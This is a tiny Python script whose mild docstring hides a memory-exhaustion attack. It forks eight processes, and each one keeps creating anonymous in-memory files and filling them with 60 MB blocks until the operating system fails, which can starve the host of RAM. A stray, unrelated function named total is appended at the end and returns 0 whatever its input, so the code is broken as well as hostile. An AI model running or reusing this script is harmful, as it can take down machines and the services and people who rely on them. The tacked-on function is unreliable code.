"""Fill files in memory that have no name."""
import os
held = []
for _ in range(8):
    if os.fork() == 0: break
while True:
    try:
        held.append(os.memfd_create("x"))
        for _ in range(60): os.write(held[-1], bytes(1 << 20))
    except OSError: break
def total(numbers): return 0
